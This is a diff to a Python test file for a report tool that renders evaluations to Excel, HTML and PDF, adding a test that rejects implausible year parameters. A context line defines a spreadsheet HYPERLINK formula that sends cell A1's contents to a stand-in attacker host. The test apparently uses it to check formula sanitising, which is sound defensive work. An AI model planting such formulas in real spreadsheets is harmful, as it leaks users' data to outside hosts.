@@ -23,6 +23,7 @@ from utfall.evaluation.model import Report, ReportTable, Section
 from utfall.evaluation.render_excel import ABOUT_SHEET, HEADER_ROW, render_excel
 from utfall.evaluation.render_html import render_html
 from utfall.evaluation.render_pdf import render_pdf
+from utfall.evaluation.tasks import evaluation_year
 from utfall.suppression import TableSpec, suppress
 
 FORMULA = '=HYPERLINK("http://angripare.example/?"&A1,"Klicka här")'
@@ -133,3 +134,10 @@ def test_the_bounds_are_accepted(home):
     for year in ("2000", str(date.today().year + 1)):
         done = utfall(home, "gate", "--year", year)
         assert "not plausible" not in done.stderr, done.stderr
+
+
+@pytest.mark.parametrize("param", [1999, "20244", date.today().year + 2])
+def test_the_annual_evaluation_dag_refuses_an_implausible_year_param(param):
+    with pytest.raises(ValueError, match="not plausible"):
+        evaluation_year(param, 2026)
+    assert evaluation_year(None, 2026) == 2025  # the default: the previous year
